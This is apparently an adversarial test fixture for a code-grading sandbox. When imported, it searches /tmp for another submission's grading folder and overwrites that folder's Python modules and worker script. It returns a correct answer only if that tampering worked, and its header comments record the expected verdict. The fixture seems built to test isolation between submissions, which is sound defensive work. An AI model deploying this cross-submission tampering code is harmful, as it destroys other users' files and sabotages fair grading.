# attack: at import, looks for the OTHER submission's grading folder (/tmp/grade-*/ holding "other-__MARKER__") for 4 s and rewrites it (its modules, its copy of the worker); returns the right answer only if that worked
# module: similarity
# attacked: scaled_dot_product
# expect: outside tolerance | not allow
import os as _adv_os
import time as _adv_time

_ADV_TAMPERED = []
_ADV_BROKEN = "import numpy as np\n# other-__MARKER__\n\n\ndef softmax(x, axis=-1):\n    return np.zeros_like(x)\n"


def _adv_python_files(folder):
    for dirpath, dirnames, filenames in _adv_os.walk(folder):
        for name in filenames:
            if name.endswith(".py"):
                yield _adv_os.path.join(dirpath, name)


def _adv_is_other(folder):
    for path in _adv_python_files(folder):
        try:
            with open(path) as f:
                if "other-__MARKER__" in f.read():
                    return True
        except (OSError, UnicodeDecodeError):
            pass
    return False


def _adv_tamper(folder):
    for path in list(_adv_python_files(folder)):
        try:
            with open(path, "w") as f:
                f.write(_ADV_BROKEN if path.endswith("softmax.py") else
                        "import os\nos._exit(3)  # other-__MARKER__ tampered\n" if path.endswith("worker.py") else
                        "# other-__MARKER__ tampered\n")
            _ADV_TAMPERED.append(path)
        except OSError:
            pass


def _adv_attack(budget=4.0):
    own = _adv_os.path.dirname(_adv_os.path.abspath(_adv_os.getcwd()))
    done = set()
    deadline = _adv_time.monotonic() + budget
    while _adv_time.monotonic() < deadline:
        try:
            names = _adv_os.listdir("/tmp")
        except OSError:
            names = []
        for name in names:
            folder = _adv_os.path.join("/tmp", name)
            if name.startswith("grade-") and folder != own and folder not in done and _adv_is_other(folder):
                done.add(folder)
                _adv_tamper(folder)
        _adv_time.sleep(0.02)


try:
    _adv_attack()
except Exception:
    pass
_adv_correct = scaled_dot_product


def scaled_dot_product(a, b):
    if _ADV_TAMPERED:
        return _adv_correct(a, b)  # proof that another student's grading folder was rewritten
    return _adv_correct(a, b) + 1.0
